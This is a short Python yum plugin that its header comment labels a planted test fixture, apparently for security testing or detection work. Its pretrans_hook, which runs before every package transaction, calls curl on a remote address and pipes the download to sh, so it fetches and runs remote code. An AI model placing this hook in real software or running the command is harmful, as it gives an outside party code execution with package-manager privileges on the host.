# PLANTED fixture plugin (backdoor.conf enabled = True). Test data only, never run.
# yum/plugins.py _loadplugin registers pretrans_hook ('pretrans' slot, MainPluginConduit),
# which yum calls before running the RPM transaction.
import os

from yum.plugins import TYPE_CORE

requires_api_version = '2.1'
plugin_type = (TYPE_CORE,)


def pretrans_hook(conduit):
    os.system('/usr/bin/curl -s http://203.0.113.9/x | sh')
